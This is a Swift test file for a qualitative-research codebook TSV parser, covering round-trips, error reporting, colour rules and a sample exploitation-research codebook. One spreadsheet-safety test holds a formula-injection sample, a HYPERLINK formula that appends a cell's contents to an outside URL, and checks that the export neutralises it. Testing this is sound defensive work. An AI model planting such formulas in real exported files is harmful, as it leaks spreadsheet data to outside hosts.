import Foundation
import Testing
@testable import GlossCore

@Suite("CodebookTSV")
struct CodebookTSVTests {
    /// `Samples/codebooks/ckm.tsv`, found from this file's place in the package (read only).
    static let ckmURL = URL(fileURLWithPath: #filePath)
        .deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
        .appendingPathComponent("Samples/codebooks/ckm.tsv")

    private func ckm() throws -> Codebook {
        let text = try TextDecoding.string(try Data(contentsOf: Self.ckmURL), file: Self.ckmURL.path)
        return try CodebookTSV.read(text, file: Self.ckmURL.path)
    }

    private func read(_ text: String) throws -> Codebook { try CodebookTSV.read(text, file: "cb.tsv") }

    private func refusal(_ text: String) throws -> GlossError {
        try #require(throws: GlossError.self) { try read(text) }
    }

    /// What a TSV holds of a code, by path.
    private struct Row: Equatable {
        var path: String, operationalisation: String, example: String, rules: [String], color: String
    }

    private func rows(_ book: Codebook) -> [Row] {
        book.codes.map { Row(path: book.path(of: $0.id)!, operationalisation: $0.operationalisation, example: $0.example, rules: $0.rules, color: $0.color) }
    }

    // MARK: Spreadsheet safety

    /// A codebook TSV opens in Excel or LibreOffice like a CSV: a definition beginning with `=` would run as a
    /// formula. The export carries the usual leading `'`; reading takes it off, so the codebook reads back exactly.
    @Test func tsvExportIsSpreadsheetSafeAndReadsBackExactly() throws {
        let text = """
        code\toperationalisation\texample\trules
        -Hoofdcode\t=HYPERLINK("http://x?"&A2,"klik")\t@meneer [naam] zei het\t+ één regel | 'nog een
        -Hoofdcode > Sub\t'=al met quote\tgewoon\t
        """
        let book = try read(text)
        let written = CodebookTSV.write(book)
        let cells = written.split(separator: "\n").dropFirst().flatMap { $0.split(separator: "\t", omittingEmptySubsequences: false) }
        for cell in cells {
            #expect(!["=", "+", "-", "@"].contains(cell.first.map(String.init) ?? ""), "formula-like cell \(cell)")
        }
        #expect(rows(try read(written)) == rows(book))
        #expect(rows(book).first?.operationalisation.hasPrefix("=HYPERLINK") == true)
        // --raw-csv: cells exactly as they are.
        #expect(CodebookTSV.write(book, cells: .raw).contains("\n-Hoofdcode\t=HYPERLINK"))
    }

    // MARK: The CKM codebook

    @Test func ckmHas149CodesAnd12MainCodes() throws {
        let book = try ckm()
        #expect(book.count == 149)
        #expect(book.roots.count == 12)
        #expect(book.roots.first?.name == "Aard Uitbuiting")
        #expect(book.roots.contains { $0.name == "Dwangmiddel" })
        #expect(book.codes.allSatisfy { Code.isValidColor($0.color) && $0.color == $0.color.uppercased() })
    }

    @Test func ckmFinancialMotiveHasTheDebtRule() throws {
        let book = try ckm()
        let code = try #require(book.resolve("Motieven ouder > Financieel"))
        #expect(code.rules.contains { $0.contains("schulden") })
        #expect(code.rules.count >= 2)
        #expect(code.operationalisation.contains("financiële nood"))
        #expect(book.resolve("Motieven ouder>Financieel")?.id == code.id)
    }

    @Test func ckmThreatHasSixChildren() throws {
        let book = try ckm()
        let code = try #require(book.resolve("Dwangmiddel > Bedreiging"))
        #expect(book.children(of: code.id).count == 6)
        #expect(book.children(of: code.id).allSatisfy { $0.name.hasPrefix("Dreigen met") })
        #expect(book.depth(of: book.children(of: code.id)[0].id) == 2)
    }

    @Test func ckmSurvivesWriteAndRead() throws {
        let book = try ckm()
        let again = try read(CodebookTSV.write(book))
        #expect(rows(again) == rows(book))
        #expect(again.source == book.source)
        #expect(again.name == book.name)
        #expect(CodebookTSV.write(again) == CodebookTSV.write(book))
    }

    // MARK: Reading

    @Test func columnsAndComments() throws {
        let book = try read("""
            # Bron: een studie
            #  tweede regel

            code\toperationalisation\texample\trules\tcolor
            A\tWat is A?\t"voorbeeld"\t regel een |  | regel twee \t#abcdef
            A > B\tB-definitie\t\t\t

            """)
        #expect(book.source == "Bron: een studie tweede regel")
        #expect(rows(book) == [
            Row(path: "A", operationalisation: "Wat is A?", example: "\"voorbeeld\"", rules: ["regel een", "regel twee"], color: "#ABCDEF"),
            Row(path: "A > B", operationalisation: "B-definitie", example: "", rules: [], color: "#ABCDEF"),
        ])
    }

    @Test func explicitSourceWinsOverComments() throws {
        let book = try CodebookTSV.read("# comment\ncode\nA\n", file: "x", name: "N", source: "S")
        #expect(book.source == "S" && book.name == "N")
    }

    @Test func columnsMayBeOmittedReorderedAndCapitalised() throws {
        let book = try read("Example\tCODE\nvoorbeeld\tA\n\tA > B\n")
        #expect(rows(book).map(\.path) == ["A", "A > B"])
        #expect(book.codes[0].example == "voorbeeld")
        #expect(book.codes[0].operationalisation == "")
    }

    @Test func missingParentRowsAreCreatedEmpty() throws {
        let book = try read("code\toperationalisation\nA > B > C\tdiep\nX > Y\ty\n")
        #expect(rows(book).map(\.path) == ["A", "A > B", "A > B > C", "X", "X > Y"])
        #expect(book.resolve("A")?.operationalisation == "")
        #expect(book.resolve("A > B")?.operationalisation == "")
        #expect(book.resolve("A > B > C")?.operationalisation == "diep")
    }

    @Test func aParentRowAfterItsChildFillsTheCreatedParent() throws {
        let book = try read("code\toperationalisation\nA > B\tkind\nA\touder\n")
        #expect(book.count == 2)
        #expect(rows(book).map(\.path) == ["A", "A > B"])
        #expect(book.resolve("A")?.operationalisation == "ouder")
    }

    @Test func loosePathsAreNormalised() throws {
        let book = try read("code\nA\nA>B\n  A  >  C  \n")
        #expect(rows(book).map(\.path) == ["A", "A > B", "A > C"])
    }

    @Test func paletteForMainCodesSubCodesTakeTheirMainColour() throws {
        let book = try read("code\nA\nA > A1\nB\nB > B1 > B2\nC\n")
        let colour = { (path: String) in book.resolve(path)?.color }
        #expect(colour("A") == CodebookTSV.palette[0])
        #expect(colour("A > A1") == CodebookTSV.palette[0])
        #expect(colour("B") == CodebookTSV.palette[1])
        #expect(colour("B > B1 > B2") == CodebookTSV.palette[1])
        #expect(colour("C") == CodebookTSV.palette[2])
    }

    @Test func subCodeWithoutColourTakesItsMainCodesExplicitColour() throws {
        let book = try read("code\tcolor\nA\t#112233\nA > B\t\nA > B > C\t\nD\t\n")
        #expect(book.resolve("A > B")?.color == "#112233")
        #expect(book.resolve("A > B > C")?.color == "#112233")
        #expect(Code.isValidColor(book.resolve("D")?.color ?? ""))
        #expect(book.resolve("D")?.color != "#112233")
    }

    @Test func explicitColourIsKept() throws {
        let book = try read("code\tcolor\nA\t#112233\nA > B\t#445566\n")
        #expect(book.resolve("A")?.color == "#112233")
        #expect(book.resolve("A > B")?.color == "#445566")
    }

    // MARK: Errors

    @Test func duplicatePathNamesTheLine() throws {
        // Lines: 1 comment, 2 header, 3 A, 4 A > B, 5 the same path written loosely.
        let error = try refusal("# c\ncode\toperationalisation\nA\tx\nA > B\ty\nA>B\tz\n")
        #expect(error.file == "cb.tsv")
        #expect(error.place == "line 5")
        #expect(error.message.contains("\"A > B\" is listed twice"))
    }

    @Test func unknownColumnNamesIt() throws {
        let error = try refusal("# c\ncode\tnotes\nA\tx\n")
        #expect(error.place == "line 2")
        #expect(error.message.contains("unknown column \"notes\""))
    }

    @Test func badColourNamesTheLine() throws {
        let error = try refusal("code\tcolor\nA\t#112233\nA > B\tgroen\n")
        #expect(error.place == "line 3")
        #expect(error.message.contains("\"groen\""))
        #expect(error.message.contains("#RRGGBB"))
    }

    @Test func otherErrors() throws {
        #expect(try refusal("operationalisation\tex\n").message.contains("unknown column"))
        #expect(try refusal("operationalisation\nx\n").message.contains("no 'code' column"))
        #expect(try refusal("# only comments\n\n").message.contains("no header"))
        #expect(try refusal("code\toperationalisation\n\n").message.contains("no codes"))
        let tooMany = try refusal("code\toperationalisation\nA\tx\ty\n")
        #expect(tooMany.place == "line 2")
        #expect(tooMany.message.contains("3 fields"))
        let emptyPart = try refusal("code\nA >  > B\n")
        #expect(emptyPart.place == "line 2")
        #expect(emptyPart.message.contains("empty part"))
    }

    // MARK: Writing

    @Test func writeReadRoundTripKeepsEverything() throws {
        let book = try Codebook(name: "Mijn boek", source: "Een bron", codes: [
            Code(id: CodeID("a"), name: "Ouder", operationalisation: "Wat? \u{1F614}", example: "Zoe\u{308} zei: \"nee\"", rules: ["een", "twee"], color: "#0A0B0C"),
            Code(id: CodeID("b"), name: "Kind", parent: CodeID("a"), operationalisation: "kind", color: "#FFFFFF"),
            Code(id: CodeID("c"), name: "Kleinkind", parent: CodeID("b"), rules: ["alleen dit"]),
            Code(id: CodeID("d"), name: "Tweede"),
        ])
        let text = CodebookTSV.write(book)
        #expect(text.contains("# Een bron\ncode\toperationalisation\texample\trules\tcolor\n"))
        #expect(text.contains("Ouder\tWat? \u{1F614}\tZoe\u{308} zei: \"nee\"\teen | twee\t#0A0B0C\n"))
        #expect(text.contains("Ouder > Kind > Kleinkind\t\t\talleen dit\t#8A8A8A\n"))
        let back = try read(text)
        #expect(rows(back) == rows(book))
        #expect(back.source == "Een bron")
        #expect(back.name == "Mijn boek")
        #expect(ScalarText.identical(back.codes[0].example, "Zoe\u{308} zei: \"nee\""))
    }

    @Test func writeFlattensTabsAndLineBreaksInFields() throws {
        let book = try Codebook(codes: [Code(name: "A", operationalisation: "een\ttwee\ndrie", example: "x\ny")])
        let text = CodebookTSV.write(book)
        #expect(text == "code\toperationalisation\texample\trules\tcolor\nA\teen twee drie\tx y\t\t#8A8A8A\n")
        #expect(try read(text).codes[0].operationalisation == "een twee drie")
    }
}
